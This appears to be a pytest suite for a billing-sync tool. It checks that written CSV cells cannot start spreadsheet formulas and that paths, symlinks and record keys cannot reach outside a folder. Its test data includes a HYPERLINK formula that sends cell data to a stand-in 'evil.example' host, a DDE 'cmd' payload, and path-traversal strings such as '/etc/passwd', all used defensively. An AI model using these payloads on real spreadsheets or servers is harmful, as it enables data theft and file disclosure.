"""A24, A27, A28: what billsync writes starts no spreadsheet, and no name leads out of a folder."""

from __future__ import annotations

import csv
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from billsync.connector import Applied, Context, Intent
from billsync.settings import BadSettings, load
from billsync.shelf import MAX_TABLE_BYTES
from billsync.workspace import reader
from billsync_connectors.files import Files, FilesConfig
from billsync_connectors.files.status import neutral, restored
from tests.cli.place import CONFIG, MAPPING, Place

STARTS = "=+-@\t\r\n"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"paid")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
]


def status(folder: Path, *deals: str) -> list[list[str]]:
    """The rows of the status file, after the state of these deals was written."""
    files = Files(Context("crm", folder), FilesConfig.model_validate({"folder": "crm", "status_folder": "out"}))
    intents = [Intent(deal, "status", {"deal": deal, "state": deal, "amount": "1.00"}) for deal in deals]
    for outcome, deal in zip(files.write("status", intents), deals, strict=True):
        assert isinstance(outcome, Applied), outcome
        assert outcome.remote_id == deal
    assert [type(found).__name__ for found in files.probe("status", deals)] == ["Found"] * len(deals)
    with (folder / "out/status.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))[1:]


def test_a24_no_cell_begins_like_a_formula_and_each_comes_back_as_it_was(tmp_path: Path) -> None:
    (tmp_path / "crm").mkdir()
    rows = status(tmp_path, *FORMULAS)
    assert [cell for row in rows for cell in row if cell and cell[0] in STARTS] == []
    again = status(tmp_path, *FORMULAS)
    assert again == rows, "written twice, escaped once"


@given(st.text())
def test_a24_any_text_is_harmless_and_comes_back(text: str) -> None:
    safe = neutral(text)
    assert not safe.startswith(tuple(STARTS))
    assert restored(safe) == text


def test_a24_a_negative_amount_is_no_formula_either(tmp_path: Path) -> None:
    (tmp_path / "crm").mkdir()
    assert not any(cell.startswith("-") for row in status(tmp_path, "-1") for cell in row)


# ---------------------------------------------------------------- A28: out of the folder


def files(folder: Path, **settings: Any) -> Files:
    return Files(Context("crm", folder), FilesConfig.model_validate({"folder": "crm", **settings}))


@pytest.mark.parametrize("file", ["../secret.csv", "/etc/passwd", "a/../../secret.csv", "..\\secret.csv", "../*.csv"])
def test_a28_an_object_is_a_file_of_its_folder(file: str) -> None:
    with pytest.raises(ValueError, match="inside the folder"):
        FilesConfig.model_validate({"folder": "crm", "objects": {"deals": {"file": file}}})


def test_a28_a_link_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "crm").mkdir()
    (tmp_path / "secret.csv").write_text("id,word\n1,hunter2\n")
    (tmp_path / "crm/deals.csv").symlink_to(tmp_path / "secret.csv")
    made = files(tmp_path, objects={"deals": {"key": "id"}})
    with pytest.raises(Exception, match=r"deals") as caught:
        list(made.read("deals", None))
    assert "hunter2" not in str(caught.value)


def test_a28_the_status_file_is_not_written_through_a_link(tmp_path: Path) -> None:
    (tmp_path / "crm").mkdir()
    (tmp_path / "out").mkdir()
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / "out/.status.csv.tmp").symlink_to(victim)
    status(tmp_path, "D1")
    assert victim.read_text() == "precious"
    (tmp_path / "out/status.csv").unlink()
    (tmp_path / "out/status.csv").symlink_to(victim)
    made = files(tmp_path, status_folder="out")
    (outcome,) = made.write("status", [Intent("D2", "status", {"deal": "D2"})])
    assert not isinstance(outcome, Applied)
    assert victim.read_text() == "precious"


KEYS = [
    "../../../tmp/x",
    "/etc/passwd",
    "a/b",
    "..",
    ".",
    "nul\u0001",
    "C:\\x",
    "-rf",
    "~root",
    "%2e%2e%2fx",
    "x" * 5000,
]


def test_a28_a_records_key_is_never_a_name_of_a_file(place: Place) -> None:
    before = set(place.folder.parent.rglob("*"))
    place.write("billsync.yaml", CONFIG.replace("    folder: crm\n", "    folder: crm\n    status_folder: status\n"))
    place.deals(*(f'"{key}",Basic,Acme,2026-02-03,1,5,USD' for key in KEYS))
    place.billsync("sync")
    for key in KEYS[:4]:
        assert place.billsync("invoice", "show", key).code == 2
    new = {path.relative_to(place.folder).parts[0] for path in place.folder.parent.rglob("*") if path not in before}
    assert {name for name in new if not name.startswith("billsync.db")} <= {"status"}


@pytest.mark.parametrize("name", ["a/b", "../x", "a b", "", "x" * 60, "\u202eabc", "a\nb", "ä", "-x", ".x"])
def test_a28_a_connections_name_is_a_plain_word(tmp_path: Path, name: str) -> None:
    path = tmp_path / "billsync.yaml"
    path.write_text(CONFIG.replace("  crm:\n", f'  "{name.encode("unicode_escape").decode()}":\n'))
    with pytest.raises(BadSettings, match=r"billsync.yaml:3:3: YAML-VALUE-01 expected a name"):
        load(path)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "work/maps").mkdir(parents=True)
    (tmp_path / "work/table.csv").write_text("inside")
    (tmp_path / "work/maps/table.csv").write_text("beside")
    (tmp_path / "secret.csv").write_text("hunter2")
    (tmp_path / "work/maps/link.csv").symlink_to(tmp_path / "secret.csv")
    os.mkfifo(tmp_path / "work/maps/pipe")
    return tmp_path / "work"


@pytest.mark.parametrize(
    "name", ["../../secret.csv", "link.csv", "/etc/passwd", "/dev/zero", "pipe", ".", "nowhere.csv"]
)
def test_a28_a_mapping_of_somebody_elses_opens_nothing_outside(folder: Path, name: str) -> None:
    with pytest.raises(OSError, match=r"outside|no such file"):
        reader(folder / "maps", folder)(name)


def test_a28_the_tables_of_a_mapping_lie_beside_it_or_in_the_working_folder(folder: Path) -> None:
    read = reader(folder / "maps", folder)
    assert (read("table.csv"), read("../table.csv")) == ("beside", "inside")


def test_a28_a_table_without_end_is_refused(folder: Path) -> None:
    (folder / "maps/huge.csv").write_bytes(b"x" * (MAX_TABLE_BYTES + 1))
    with pytest.raises(ValueError, match="larger than"):
        reader(folder / "maps", folder)("huge.csv")


def test_a28_it_is_told_at_the_line_of_the_mapping(place: Place) -> None:
    table = "tables:\n  t: {file: /etc/passwd, key: id, value: word}\nfields:"
    place.write("deals.yaml", MAPPING.replace("fields:", table, 1))
    said = place.billsync("sync")
    assert (said.code, said.out) == (2, "")
    assert said.err.startswith("deals.yaml:7:")
    assert "outside" in said.err
    assert "root:" not in said.err
